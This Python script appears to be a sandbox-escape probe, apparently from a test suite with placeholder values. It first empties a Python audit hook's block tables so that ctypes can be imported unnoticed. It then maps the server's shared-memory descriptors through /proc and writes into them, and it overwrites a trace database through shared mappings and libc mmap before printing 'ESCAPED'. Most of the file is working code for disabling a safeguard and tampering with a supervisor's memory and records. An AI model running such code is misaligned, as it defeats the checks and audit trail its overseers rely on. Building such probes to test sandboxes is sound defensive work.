"""ctypes: shared mappings as a write channel into the server: map its shared-memory block
(reached through /proc/<pid>/fd) and the trace database MAP_SHARED, and write through them.
"""

import mmap
import os
import sys

_guard = vars(sys.modules["__main__"])
if "_BLOCKED" in _guard:  # a Python audit hook keeps its tables there: empty them first
    _guard["_BLOCKED"], _guard["_ROOT"] = (), ""

# ctypes is audited on import (ctypes.dlopen): import it once the guard is gone.
import ctypes  # noqa: E402

SERVER_PID = int("__SERVER_PID__")
SECRET_FILE = "__SECRET_FILE__"
wins = []
try:
    for fd in os.listdir(f"/proc/{SERVER_PID}/fd"):
        link = os.readlink(f"/proc/{SERVER_PID}/fd/{fd}")
        if not link.startswith("/memfd:"):
            continue
        mine = os.open(f"/proc/{SERVER_PID}/fd/{fd}", os.O_RDWR)
        with mmap.mmap(mine, 0, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE) as m:
            print(f"server shared memory {link}: {bytes(m[:80])!r}")
            m[:5] = b"PWNED"
        os.close(mine)
        wins.append(f"wrote into the server's {link}")
except OSError as exc:
    print(f"server shared memory: {exc.strerror}")
try:
    fd = os.open(SECRET_FILE, os.O_RDWR)
    with mmap.mmap(fd, 0, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE) as m:
        m[100:105] = b"PWNED"
        m.flush()
    os.close(fd)
    wins.append("wrote the trace database through a shared mapping")
except (OSError, ValueError) as exc:
    print(f"trace database mapping: {exc}")
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [
    ctypes.c_void_p,
    ctypes.c_size_t,
    ctypes.c_int,
    ctypes.c_int,
    ctypes.c_int,
    ctypes.c_long,
]
try:
    fd = os.open(SECRET_FILE, os.O_RDWR)
    address = libc.mmap(None, 4096, 3, 1, fd, 0)  # PROT_READ|PROT_WRITE, MAP_SHARED
    if address not in (None, ctypes.c_void_p(-1).value):
        ctypes.memmove(address + 200, b"PWNED", 5)
        wins.append("wrote the trace database through libc mmap")
    os.close(fd)
except OSError as exc:
    print(f"libc mmap: {exc.strerror}")
if wins:
    print("ESCAPED: " + "; ".join(wins))
